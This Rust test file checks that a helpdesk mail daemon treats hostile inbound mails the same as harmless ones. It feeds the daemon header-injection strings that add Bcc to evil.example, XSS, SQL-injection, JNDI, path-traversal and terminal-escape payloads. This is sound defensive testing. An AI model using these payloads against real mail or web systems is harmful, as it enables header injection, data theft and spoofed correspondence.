//! What leaves the desk because of mails that mean harm, and what reaches a terminal: exactly what a harmless mail makes
//! it send, but for numbers and times.

use std::{collections::BTreeSet, fmt::Write as _, fs};

use mail_parser::MessageParser;
use regex::Regex;
use serde_json::Value;

use crate::site::{Site, read_all};

const NOTICE: &str = "revoked consent today, please close the record.";

/// A mail with one hostile thing in it, and what it is called.
struct Attack {
    name: &'static str,
    /// The display name before the address.
    display: &'static str,
    subject: &'static str,
    message_id: String,
    /// Further fields.
    fields: String,
    body: String,
}

fn plain(name: &'static str) -> Attack {
    Attack {
        name,
        display: "Jane Doe",
        subject: "revoked consent",
        message_id: "<plain@alder.example>".to_owned(),
        fields: String::new(),
        body: String::new(),
    }
}

/// The first two do no harm, and show what the others must look like to the outside: acted on, or seen by a person first.
fn attacks() -> Vec<Attack> {
    let display = |name, display| Attack { display, ..plain(name) };
    let subject = |name, subject| Attack { subject, ..plain(name) };
    let id = |name, id: &str| Attack { message_id: id.to_owned(), ..plain(name) };
    let fields = |name, fields: &str| Attack { fields: fields.to_owned(), ..plain(name) };
    let body = |name, body: &str| Attack { body: body.to_owned(), ..plain(name) };
    vec![
        plain("harmless"),
        body("doubtful", "Please wait, do not close it yet."),
        display("a field in the name", "=?utf-8?q?Jane=0D=0ABcc:_eve=40evil.example?="),
        display("a template in the name", "\"{{ 7*7 }} {% raw %} ${7*7}\""),
        display("mark-up in the name", "\"<script>alert(1)</script>\""),
        display("an escape in the name", "=?utf-8?q?=1B[2JJane?="),
        display("a formula as the name", "\"=HYPERLINK(0)\""),
        subject("a field in the subject", "=?utf-8?q?revoked=0D=0ABcc:_eve=40evil.example?="),
        subject("a template in the subject", "revoked {{ case }} {% raw %} ${jndi:ldap://x.example}"),
        subject("mark-up in the subject", "revoked <img src=x onerror=alert(1)>"),
        subject("an escape in the subject", "=?utf-8?q?revoked=1B]0;owned=07?="),
        subject("a case that is not theirs", "revoked [RD-1] [RD-999999]"),
        id("a field in the Message-ID", "<a\r\n b@alder.example>\r\n\tBcc: eve@evil.example"),
        id("a Message-ID in encoded words", "=?utf-8?q?=3Ca=40b=3E=0D=0ABcc:_eve=40evil.example?="),
        id("a Message-ID of ten thousand letters", &format!("<{}@alder.example>", "a".repeat(10_000))),
        id("a Message-ID that is not ASCII", "<\u{FC}n\u{EF}@alder.example>"),
        id("a Message-ID with mark-up", "<\"><script>alert(1)</script>@alder.example>"),
        id("a path as the Message-ID", "<../../../../tmp/owned@alder.example>"),
        id("a template as the Message-ID", "<{{x}}${x}@alder.example>"),
        id("SQL as the Message-ID", "<');DROP/**/TABLE/**/messages;--@alder.example>"),
        id("no Message-ID", ""),
        fields(
            "a field in the References",
            "References: <a@b.example>\r\n <c@d.example>\r\n\tBcc: eve@evil.example\r\n",
        ),
        fields("References without end", &format!("References: {}\r\n", "<a@b.example> ".repeat(5_000))),
        fields(
            "References with escapes",
            "References: <\u{1B}[2J@b.example> <\0@x>\r\nIn-Reply-To: <\u{7}@x>\r\n",
        ),
        fields(
            "another address to answer",
            "Reply-To: eve@evil.example\r\nReturn-Path: <eve@evil.example>\r\nSender: eve@evil.example\r\n",
        ),
        fields(
            "receipts to somebody else",
            "Disposition-Notification-To: eve@evil.example\r\nErrors-To: eve@evil.example\r\n",
        ),
        body("a template in the text", "{{ 7*7 }} {% raw %} ${7*7}"),
        body("mark-up in the text", "<script>alert(1)</script> <!-- x --> &lt;b&gt;"),
        body("SQL in the text", "Robert'); DROP TABLE cases; --"),
        body("a field in the text", "\r\n.\r\nBcc: eve@evil.example\r\n\r\nx"),
    ]
}

/// The mail of an attack; each has a sender and a record of its own.
fn mail(attack: &Attack, nth: usize) -> Vec<u8> {
    let mut head =
        "Authentication-Results: mx.helpdesk.example; dmarc=pass header.from=alder.example\r\n".to_owned();
    let _ = write!(
        head,
        "From: {} <{}>\r\nTo: helpdesk@helpdesk.example\r\nSubject: {}\r\nDate: Fri, 20 Nov 2026 10:00:00 -0600\r\n",
        attack.display,
        sender(nth),
        attack.subject
    );
    if !attack.message_id.is_empty() {
        let _ = write!(head, "Message-ID: {}\r\n", attack.message_id);
    }
    format!(
        "{head}{}MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nClient {} {NOTICE}\r\n{}\r\n",
        attack.fields,
        record(nth),
        attack.body
    )
    .into_bytes()
}

fn sender(nth: usize) -> String {
    format!("a{nth}@alder.example")
}

fn record(nth: usize) -> usize {
    1_600_000 + nth
}

/// A mail that left, with what differs from mail to mail taken out: names of fields with their values, and both texts.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord, Clone)]
struct Sent {
    to: String,
    fields: Vec<(String, String)>,
    text: String,
    html: String,
}

fn sent(octets: &str) -> Sent {
    let own = Regex::new(r"RD-\d+|\b16\d{5}\b|\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?").expect("a pattern");
    let id = Regex::new(r"^(<[!-;=?-~]{1,250}>\s*)+$").expect("a pattern");
    assert!(octets.is_ascii() && octets.lines().all(|line| line.len() <= 998), "{octets}");
    let mail = MessageParser::default().parse(octets).expect("a mail");
    let mut to = String::new();
    let mut fields = Vec::new();
    for (name, value) in mail.headers_raw() {
        let value = value.trim();
        let kept = match name {
            "To" => {
                value.clone_into(&mut to);
                continue;
            }
            // A thread is repeated as far as it is one.
            "In-Reply-To" | "References" => {
                assert!(id.is_match(value) && value.len() < 6_000, "{name}: {value}");
                continue;
            }
            "Date" => continue,
            "Message-ID" => {
                assert!(id.is_match(value), "{value}");
                continue;
            }
            "Content-Type" => value.split(';').next().unwrap_or_default(),
            _ => value,
        };
        fields.push((name.to_owned(), own.replace_all(kept, "N").into_owned()));
    }
    let without = |text: Option<std::borrow::Cow<'_, str>>| {
        own.replace_all(&text.unwrap_or_default(), "N").into_owned()
    };
    Sent { to, fields, text: without(mail.body_text(0)), html: without(mail.body_html(0)) }
}

/// What must not reach a terminal or a log.
fn moves_a_cursor(c: char) -> bool {
    c.is_control() && c != '\n' || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_mail_makes_the_desk_send_and_print_what_a_harmless_one_does() {
    let site = Site::on_files().await;
    let attacks = attacks();
    let rows: Vec<String> =
        (0..attacks.len()).map(|nth| format!("('{}', 'alder', 'open', FALSE, FALSE)", record(nth))).collect();
    let data: Vec<String> = (0..attacks.len())
        .map(|nth| format!("('test', 'note', 'n{nth}', '{}', 'alder')", record(nth)))
        .collect();
    site.hmis(&format!(
        "INSERT INTO hmis_record (record_id, creator_agency_id, sharing, priority_list, minor) VALUES {};
         INSERT INTO hmis_data (source, kind, item_id, record_id, agency_id) VALUES {};",
        rows.join(", "),
        data.join(", ")
    ))
    .await;
    for (nth, attack) in attacks.iter().enumerate() {
        site.deliver(&format!("{nth:03}"), &mail(attack, nth));
    }
    let daemon = site.serve();
    site.at_rest(attacks.len()).await;
    daemon.stop().await;

    let all: Vec<Sent> = site.sent().iter().map(|octets| sent(octets)).collect();
    let to = |address: &str| all.iter().filter(|mail| mail.to == address).cloned().collect::<Vec<_>>();
    // Whoever is called is told the same, whatever the mail was.
    let notified: BTreeSet<Sent> = to("staff@helpdesk.example").into_iter().collect();
    assert_eq!(notified.len(), 1, "{notified:#?}");
    let answers = |nth: usize| {
        let mut found = to(&sender(nth));
        for mail in &mut found {
            mail.to.clear();
        }
        found
    };
    let (harmless, doubtful) = (answers(0), answers(1));
    assert!(!harmless.is_empty() && !doubtful.is_empty() && harmless != doubtful);
    let mut waiting = Vec::new();
    for (nth, attack) in attacks.iter().enumerate() {
        let found = answers(nth);
        assert!(found == harmless || found == doubtful, "{}: {found:#?}", attack.name);
        if found == doubtful {
            waiting.push(attack.name);
        }
    }
    assert_eq!(waiting, WAITING);
    let known: BTreeSet<String> =
        (0..attacks.len()).map(sender).chain(["staff@helpdesk.example".to_owned()]).collect();
    assert!(all.iter().all(|mail| known.contains(&mail.to)), "nobody else is written to");
    assert_eq!(
        site.count("SELECT COUNT(*) FROM hmis_record WHERE sharing = 'closed'").await,
        i64::try_from(attacks.len() - WAITING.len()).expect("few")
    );
    site.run(&["db", "verify"]);
    prints_nothing_odd(&site);
}

/// Rows that a person sees first, as the doubtful one: what stands in their header is not what an honest one holds.
const WAITING: [&str; 4] =
    ["doubtful", "a field in the name", "a field in the subject", "an escape in the subject"];

fn prints_nothing_odd(site: &Site) {
    // A file may be named by whoever sent it.
    let odd = site.path("\u{1B}[2J\u{7}.eml");
    let body = format!("{NOTICE} 1600000 \u{1B}[2J\u{9B}1m\u{202E}x\u{7}\u{8}");
    let hostile = format!(
        "From: \u{1B}[1mx <a@b.example>\r\nSubject: \u{1B}]0;x\u{7}\r\nContent-Type: text/\u{1B}x\r\n\r\n{body}"
    );
    fs::write(&odd, &hostile).expect("written");
    let shown = site.path("shown.eml");
    fs::write(&shown, hostile.replace("text/\u{1B}x", "text/plain; charset=utf-8")).expect("written");
    let mut printed = vec![site.run(&["mail", "list"]), site.run(&["case", "list"]), site.log()];
    for case in site.json(&["case", "list"]) {
        let id = case.get("case").and_then(Value::as_str).unwrap_or_default();
        printed.push(site.run(&["case", "show", id]));
    }
    for file in [&odd, &shown] {
        let file = file.to_string_lossy();
        printed.push(site.run(&["read", &file]));
        printed.push(site.run(&["read", "--explain", &file]));
    }
    let explained = printed.last().expect("printed");
    assert!(explained.contains("<U+001B>[2J"), "{explained}");
    for text in printed {
        assert!(!text.contains(moves_a_cursor), "{text:?}");
    }
    assert!(read_all(&site.path("sent")).iter().all(|mail| !mail.contains("evil.example")));
}
